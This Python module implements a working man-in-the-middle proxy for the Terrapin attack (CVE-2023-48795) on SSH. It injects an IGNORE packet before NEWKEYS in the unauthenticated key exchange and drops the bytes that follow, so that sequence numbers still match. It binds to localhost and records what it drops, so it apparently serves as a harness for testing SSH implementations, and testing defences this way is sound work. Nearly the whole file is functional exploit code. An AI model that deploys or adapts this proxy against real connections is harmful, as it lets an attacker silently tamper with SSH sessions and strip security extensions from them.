"""
A proxy that attacks: it puts a message into the first key exchange, and drops what comes right behind it.

This is the Terrapin attack (CVE-2023-48795). Nothing before NEWKEYS is authenticated, so a message can be added there;
it counts, and a packet that is dropped behind NEWKEYS makes up for it. Who has only numbers to go by sees nothing.
"""

import socket
import threading
from collections.abc import Callable
from contextlib import suppress

NEWKEYS = 21
_REPLY = 31
# IGNORE with nothing in it, as it goes over the wire before there are keys.
_IGNORE = bytes.fromhex("0000000c 06 02 00000000 000000000000")
# After this time of silence everything is here that was sent without waiting for the other side.
_SILENCE_SECONDS = 0.2


class Meddler:
    """
    A port in front of a server; a context manager.

    Args:
        port: the server's.
        towards: whom it deceives, `client` or `server`.
        insert: whether it puts an IGNORE before NEWKEYS.
        drop: how many bytes it drops behind NEWKEYS; None: all that come before the other side has its turn.

    Attributes:
        port: where it listens.
        dropped: the sizes of what was dropped, of each connection.
    """

    def __init__(self, port: int, *, towards: str, insert: bool = True, drop: int | None = None) -> None:
        self._server = port
        self._towards = towards
        self._insert = insert
        self._drop = drop
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.dropped: list[int] = []
        self._sockets: list[socket.socket] = []

    def __enter__(self) -> "Meddler":
        self._start(self._accept)
        return self

    def __exit__(self, *_: object) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for each in self._sockets:
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
            each.close()

    def _start(self, work: Callable[..., None], *args: object) -> None:
        threading.Thread(target=work, args=args, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client = self._listener.accept()[0]
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", self._server))
            self._sockets += [client, server]
            for source, target, name in ((client, server, "server"), (server, client, "client")):
                self._start(self._carry, source, target, name == self._towards)

    def _carry(self, source: socket.socket, target: socket.socket, meddle: bool) -> None:
        try:
            if meddle:
                target.sendall(self._first_exchange(source, target))
            while data := source.recv(1 << 16):
                target.sendall(data)
            target.shutdown(socket.SHUT_WR)
        except (OSError, EOFError):
            for each in (source, target):
                with suppress(OSError):
                    each.shutdown(socket.SHUT_RDWR)

    def _first_exchange(self, source: socket.socket, target: socket.socket) -> bytes:
        """Carry what comes before the keys; return what the other side gets of the end of it."""
        while True:
            byte = _exactly(source, 1)
            target.sendall(byte)
            if byte == b"\n":
                break
        held = b""
        while True:
            head = _exactly(source, 4)
            packet = head + _exactly(source, int.from_bytes(head, "big"))
            if packet[5] == NEWKEYS:
                break
            # Who has the reply goes on at once, and that would be answered.
            held += packet
            if packet[5] != _REPLY:
                target.sendall(held)
                held = b""
        behind = _until_silence(source)
        drop = len(behind) if self._drop is None else self._drop
        self.dropped.append(drop)
        return held + (_IGNORE if self._insert else b"") + packet + behind[drop:]


def _exactly(source: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        more = source.recv(count - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def _until_silence(source: socket.socket) -> bytes:
    data = b""
    source.settimeout(_SILENCE_SECONDS)
    try:
        while more := source.recv(1 << 16):
            data += more
    except TimeoutError:
        pass
    source.settimeout(None)
    return data
